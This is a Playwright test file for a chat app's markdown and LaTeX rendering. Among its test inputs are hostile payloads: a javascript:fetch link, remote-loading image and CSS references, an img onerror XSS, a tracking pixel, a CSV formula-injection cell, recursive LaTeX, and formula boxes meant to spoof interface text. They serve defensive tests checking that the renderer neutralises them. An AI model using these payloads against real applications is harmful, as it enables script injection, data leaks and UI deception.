import { expect, test } from '@playwright/test'
import { answers, ask, idle, openApp, send } from '../support/app-page'
import { answer, text } from '../support/fake-messages-api'
import { setUpModelDesk } from '../support/model-desk'
import { watchPage } from '../support/watch-page'

const desk = setUpModelDesk({ opens: false })

const tables = '| Port | Depth |\n|---|---|\n| Cuxhaven, old | =HYPERLINK("https://evil.invalid") |'
const hostileMath = [
  '\\href{javascript:fetch("https://evil.invalid/1")}{x}',
  '\\includegraphics{https://evil.invalid/2.png}',
  '\\htmlStyle{background:url(https://evil.invalid/3)}{x}',
  '\\def\\a{\\a\\a}\\a',
  '\\rule{99999em}{99999em}',
  '</span><img src=x onerror=alert(1)>',
]

test('code has colours, formulas are set, a table is copied as CSV, and the policy holds', async ({
  page,
}) => {
  const watch = await watchPage(page)
  await page.addInitScript(() => {
    Object.defineProperty(navigator, 'clipboard', {
      value: { writeText: async (words: string) => void Object.assign(window, { copied: words }) },
    })
  })
  await openApp(page, desk.host.url)
  const words = [
    '```ts\nconst depth: number = 12 // metres\n```',
    '```mermaid\ngraph TD; A-->B\n```',
    'Euler knew $$e^{i\\pi} + 1 = 0$$; it costs $5 or $6.',
    '$$\n\\sum_{n=1}^{\\infty} \\frac{1}{n^2} = \\frac{\\pi^2}{6}\n$$',
    tables,
    '![pixel](https://evil.invalid/4.png?leak=1)',
    ...hostileMath.map((tex) => `$$\n${tex}\n$$`),
  ]
  desk.api.push(answer([text(words.join('\n\n'))], { chunking: 'byte' }))
  await ask(page, 'Show me everything')
  const shown = answers(page).last()
  await expect(shown.locator('.hljs-keyword')).toHaveText('const')
  await expect(shown.locator('.katex').first()).toContainText('e')
  await expect(shown.locator('.katex-display')).not.toHaveCount(0)
  await expect(shown).toContainText('graph TD; A-->B')
  await expect(shown).toContainText('it costs $5 or $6')
  // What is no formula, or none that may be, is shown as it is written.
  await expect(
    shown.locator('a[href^="javascript"], img, script, iframe:not([sandbox="allow-scripts"])'),
  ).toHaveCount(0)
  await expect(shown.locator('code').filter({ hasText: '\\def\\a' })).toBeVisible()
  await shown.getByRole('table').hover()
  await shown.getByRole('button', { name: 'Copy as CSV' }).click()
  await expect
    .poll(() => page.evaluate(() => (window as { copied?: string }).copied))
    .toBe('Port,Depth\r\n"Cuxhaven, old","\'=HYPERLINK(""https://evil.invalid"")"\r\n')
  expect(watch.errors).toEqual([])
  expect(watch.strangers()).toEqual([])
})

test('a formula is drawn in its own box alone: it can cover nothing that asks for a decision', async ({
  page,
}) => {
  await openApp(page, desk.host.url)
  const cover = '\\colorbox{white}{\\text{Read notes.txt}}'
  const [below, beside] = [`\\smash{\\raisebox{-9em}{${cover}}}`, `\\hspace{-12em}${cover}`]
  desk.api.push(
    answer([
      text(
        `${'Some words. '.repeat(20)} $$${below}$$ and $$${beside}$$ here.\n\n${'More words. '.repeat(80)}`,
      ),
    ]),
  )
  await ask(page, 'Cover it')
  const covers = answers(page)
    .last()
    .locator('.katex-html .colorbox, .katex-html .fcolorbox, .katex-html .boxpad')
  await expect(covers.first()).toBeAttached()
  const painted = await covers.evaluateAll(
    (boxes) =>
      boxes.filter((box) => {
        const { left, top, width, height } = box.getBoundingClientRect()
        const frame = box.closest('.ui-formula')?.getBoundingClientRect()
        const [x, y] = [left + width / 2, top + height / 2]
        if (frame === undefined) return true
        if (y > frame.top && y < frame.bottom && x > frame.left && x < frame.right) return false
        return document.elementsFromPoint(x, y).includes(box)
      }).length,
  )
  expect(painted).toBe(0)
})

test('a list of tasks and other points keeps the marks of both, and is set in from the list around it', async ({
  page,
}) => {
  await openApp(page, desk.host.url)
  desk.api.push(answer([text('- around\n  - a point\n  - [x] a task\n    - deeper\n')]))
  await ask(page, 'List it')
  const item = (words: string) => answers(page).last().locator('li', { hasText: words }).last()
  const markOf = (words: string) => item(words).evaluate((li) => getComputedStyle(li).listStyleType)
  expect([await markOf('a point'), await markOf('a task')]).toEqual(['disc', 'none'])
  const leftOf = (words: string) =>
    item(words).evaluate((li, text) => {
      const walker = document.createTreeWalker(li, NodeFilter.SHOW_TEXT)
      while (walker.nextNode() && !walker.currentNode.nodeValue?.includes(text));
      const range = document.createRange()
      range.selectNodeContents(walker.currentNode)
      return range.getBoundingClientRect().left
    }, words)
  expect(await leftOf('a point')).toBeGreaterThan((await leftOf('around')) + 8)
  expect(await leftOf('deeper')).toBeGreaterThan((await leftOf('a task')) + 8)
})

test('what an answer has shown stays the same element while the rest arrives', async ({ page }) => {
  let goOn = () => {}
  const until = new Promise<void>((resolve) => {
    goOn = resolve
  })
  const pieces = [
    '```ts\nconst depth = 12\n```\n\nSee [the harbour](https://harbour.example/) and',
    ' its towers.',
  ]
  // The start of the message, a ping, the start of its block and the first piece come before.
  desk.api.push(answer([text(pieces)], { pause: { beforeChunk: 4, until } }))
  await openApp(page, desk.host.url)
  await send(page, 'Show me the code')
  const shown = answers(page).last()
  await expect(shown.getByRole('link')).toBeVisible()
  const before = await shown.locator('.ui-code, a').elementHandles()
  expect(before).toHaveLength(2)
  goOn()
  await idle(page)
  await expect(shown).toContainText('and its towers.')
  for (const element of before) expect(await element.evaluate((node) => node.isConnected)).toBe(true)
})

test('an answer that is nested deeper than can be drawn is shown as it is written, and the conversation goes on', async ({
  page,
}) => {
  await openApp(page, desk.host.url)
  const lists = `${'- '.repeat(3000)}the end of it`
  const emphases = `${'*a _b '.repeat(1500)}${'c_ d*'.repeat(1500)}`
  for (const words of [lists, emphases]) {
    desk.api.push(answer([text(words)]))
    await ask(page, 'Nest something')
    await idle(page)
  }
  await expect(answers(page).first()).toContainText('the end of it')
  await expect(page.locator('.ui-md-written')).toHaveCount(2)
  desk.api.push(answer([text('Plain words again.')]))
  await ask(page, 'And now?')
  await expect(answers(page).last()).toContainText('Plain words again.')
  await idle(page)
})

test('formulas between LaTeX’s own marks are set, and lines of another direction begin on their own side', async ({
  page,
}) => {
  await openApp(page, desk.host.url)
  const words = [
    'So \\(E = mc^2\\) and $x_1$ cost $5 or $6.',
    '\\[\n\\sum_{n=1}^{\\infty} \\frac{1}{n^2}\n\\]',
    'مرحبا بالعالم',
    '- שלום עולם',
    'Left again.',
  ]
  desk.api.push(answer([text(words.join('\n\n'))], { chunking: 'byte' }))
  await ask(page, 'مرحبا')
  const shown = answers(page).last()
  await expect(shown.locator('p .katex')).toHaveCount(3)
  await expect(shown.locator('.katex-display')).toHaveCount(1)
  await expect(shown).toContainText('cost $5 or $6.')
  const spaceBefore = (block: string) =>
    shown.locator(block).evaluate((element) => {
      const range = document.createRange()
      range.selectNodeContents(element)
      return range.getBoundingClientRect().left - element.getBoundingClientRect().left
    })
  expect(await spaceBefore('p:has-text("مرحبا")')).toBeGreaterThan(100)
  expect(await spaceBefore('li')).toBeGreaterThan(100)
  expect(await spaceBefore('p:has-text("Left")')).toBeLessThan(1)
  // A list’s marks stand at the beginning of its lines.
  await expect(shown.locator('ul')).toHaveCSS('direction', 'rtl')
})
